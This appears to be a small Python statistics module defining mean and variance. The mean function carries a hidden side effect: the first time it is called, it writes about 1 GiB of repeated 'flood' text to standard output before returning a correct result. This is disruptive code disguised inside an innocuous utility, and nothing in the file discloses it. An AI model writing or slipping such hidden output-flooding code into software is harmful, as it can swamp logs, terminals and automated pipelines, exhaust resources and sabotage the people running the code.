import os

_CHUNK = b"flood " * 174763  # about 1 MiB
_flooded = False


def mean(values):
    global _flooded
    if not _flooded:
        _flooded = True
        for _ in range(1000):
            os.write(1, _CHUNK)
    return sum(values) / len(values)


def variance(values):
    m = mean(values)
    return sum((v - m) ** 2 for v in values) / len(values)
